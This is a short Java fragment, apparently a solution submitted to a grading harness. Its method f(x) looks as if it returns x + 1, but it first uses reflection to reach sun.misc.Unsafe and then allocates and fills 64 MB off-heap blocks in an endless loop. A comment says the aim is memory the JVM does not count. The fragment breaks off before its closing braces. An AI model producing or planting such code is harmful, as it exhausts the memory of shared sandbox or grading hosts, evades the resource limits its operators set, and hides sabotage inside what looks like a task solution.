// Memory that the JVM does not count.
import java.io.*;
import java.nio.file.*;
import java.util.*;
class Problem {
    public static long f(long x) {
        try {
            java.lang.reflect.Field hidden = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
            hidden.setAccessible(true);
            sun.misc.Unsafe unsafe = (sun.misc.Unsafe) hidden.get(null);
            while (true) {
                unsafe.setMemory(unsafe.allocateMemory(1 << 26), 1 << 26, (byte) 1);
            }
        } catch (Exception refused) {
            System.err.println(refused);
        }
        return x + 1;
